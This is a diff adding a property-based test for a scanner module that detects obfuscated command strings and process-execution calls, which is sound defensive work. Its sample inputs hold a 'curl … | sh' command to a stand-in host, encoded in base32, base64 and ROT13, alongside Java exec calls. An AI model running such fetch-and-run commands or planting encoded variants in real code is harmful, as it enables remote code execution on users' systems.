@@ -21,6 +21,7 @@ from hypothesis import strategies as st
 
 from grading.bundle import applied, lexicon
 from grading.linear import LinearPattern
+from grading.programs import encoded
 from grading.programs import python as python_programs
 from grading.tier1 import decoding, files, flows, letters, normalise, scan, scanner, spans
 from grading.tier1.catalogue import Rule, load_catalogue, rule_files
@@ -907,3 +908,39 @@ def test_blocks_repeated_word_for_word_get_the_facts_each_copy_would(blocks: lis
         fact for start, end in regions for fact in python_programs.analyse(text[start:end], start)
     ]
     assert list(python_programs.blocks(text, tuple(regions))) == each
+
+
+_ENCODED_PIECES = st.sampled_from(
+    [
+        '"MN2XE3BANB2HI4DTHIXS66BOMV4GC3LQNRSS43TFOQQHYIDTNA======"',  # curl https://… | sh
+        '"Y3VybCBodHRwczovL3guZXhhbXBsZS5uZXQgfCBzaA=="',
+        '"pheyl uggcf://k.rknzcyr.arg | fu"',
+        '"https://x.example.net/collect"',
+        ", ",
+        "new ProcessBuilder(cmd).start();\n",
+        "Runtime.getRuntime().exec(c);\n",
+        "// rot13 pieces\n",
+        "(c + 13) % 26",
+        "13",
+        "x = 1\n",
+    ]
+)
+
+
+@given(st.lists(_ENCODED_PIECES, max_size=10).map("".join))
+@settings(max_examples=300, deadline=None)
+def test_encoded_constants_read_with_the_searches_gated_equal_those_read_eagerly(
+    text: str,
+) -> None:
+    """``programs.encoded`` looks for ROT13 only where "13" occurs (every match holds it) and
+    for a process call only once a constant spells a command: the facts of reading both first."""
+    rot13 = encoded._ROT13.search(text) is not None
+    assert rot13 <= ("13" in text)
+    runs = encoded._EXECUTORS.search(text) is not None
+    eager = []
+    for item in encoded.spelled(text):
+        detail = f"{item.how} decode to {item.meaning}: {item.text[:120]}"
+        eager.append((encoded.DECODED_STRING, item.offset, detail))
+        if runs and encoded.sensitive.is_command(item.text):
+            eager.append((encoded.DECODED_EXEC, item.offset, f"run by the program: {detail}"))
+    assert [(f.kind, f.offset, f.detail) for f in encoded.analyse(text)] == eager
